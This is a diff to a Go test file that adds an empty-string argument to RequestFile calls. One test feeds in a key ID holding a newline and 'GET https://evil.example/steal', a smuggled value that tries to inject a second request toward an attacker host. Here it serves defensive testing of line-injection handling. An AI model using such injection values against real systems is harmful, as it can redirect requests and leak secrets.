@@ -33,7 +33,7 @@ func TestRequestFileIsDone(t *testing.T) {
 	for _, mode := range []httpfile.Mode{httpfile.ModeHeader, httpfile.ModeVariable} {
 		s := DefaultSettings()
 		s.InsertMode = mode
-		src, err := RequestFile(key, testToken, s)
+		src, err := RequestFile(key, testToken, "", s)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -61,7 +61,7 @@ func TestRequestFileIsDone(t *testing.T) {
 func TestRequestFileKeepsKeyValuesOnOneLine(t *testing.T) {
 	key := cockpitKey(t)
 	key.ID = "keys/dox.json\nGET https://evil.example/steal"
-	src, err := RequestFile(key, testToken, DefaultSettings())
+	src, err := RequestFile(key, testToken, "", DefaultSettings())
 	if err != nil {
 		t.Fatal(err)
 	}
